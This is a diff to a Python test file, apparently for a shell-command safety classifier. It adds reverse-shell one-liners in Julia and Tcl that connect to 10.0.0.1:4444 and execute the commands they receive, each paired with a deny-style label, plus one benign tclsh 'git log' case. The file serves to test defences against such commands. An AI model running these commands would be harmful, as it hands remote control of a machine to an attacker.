@@ -31,6 +31,9 @@ def _id(row) -> str:
     return call if isinstance(call, str) else call[0] + " " + str(call[1])
 
 REVERSE_SHELLS = [
+    ('julia -e \'using Sockets; s=connect("10.0.0.1",4444); while true; eval(Meta.parse(readline(s))); end\'', 'DDDDD'),
+    ('tclsh <<< \'set s [socket 10.0.0.1 4444]; while 1 {set c [gets $s]; set p [open "|$c" r]; puts $s [read $p]}\'', 'DDDDD'),
+    ("tclsh <<< 'set p [open \"|git log\" r]; puts [read $p]'", 'KKADD'),
     ("echo 'set s [socket 10.0.0.1 4444]; while 1 {puts $s [exec [gets $s]]}' | tclsh", 'DDDDD'),
     ("tclsh <<< 'set s [socket 10.0.0.1 4444]; fconfigure $s -buffering line; while 1 { set c [gets $s]; puts $s [exec sh -c $c] }'", 'DDDDD'),
     ("wish <<< 'set s [socket -async 10.0.0.1 4444]; while 1 {set c [gets $s]; puts $s [eval exec $c]}'", 'DDDDD'),
